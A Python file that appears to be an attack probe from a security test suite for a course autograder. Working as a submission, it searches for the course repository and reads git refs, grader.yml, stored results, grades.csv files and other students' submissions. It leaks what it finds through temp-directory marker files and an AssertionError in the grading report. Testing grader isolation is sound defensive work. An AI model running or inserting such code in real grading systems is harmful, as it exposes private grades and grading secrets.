"""Reads the repository's git objects, `grader.yml` and the stored verdicts of others from the grader's disk.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="read_git_history_and_config"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _repositories():
    """Where the course may lie."""
    import os

    found = []
    try:
        import autograder

        found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/autograder/source", "/autograder"):
        while start and start != "/":
            if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                found.append(start)
            start = os.path.dirname(start)
    for pid in ("self", str(os.getppid())):
        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
    return found

import glob
import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

_stolen = []
for _folder in _repositories():
    for _pattern in (".git/HEAD", ".git/packed-refs", "grader.yml", "results/*.json", "results/grades.csv", "demo/results/grades.csv", "demo/submissions/*"):
        for _path in glob.glob(os.path.join(_folder, _pattern))[:3]:
            try:
                with open(_path, "rb") as _file:
                    _stolen.append(os.path.basename(_path) + "=" + _file.read(60).decode(errors="replace"))
            except OSError:
                continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + " ".join(" ".join(_stolen).split())[:300])
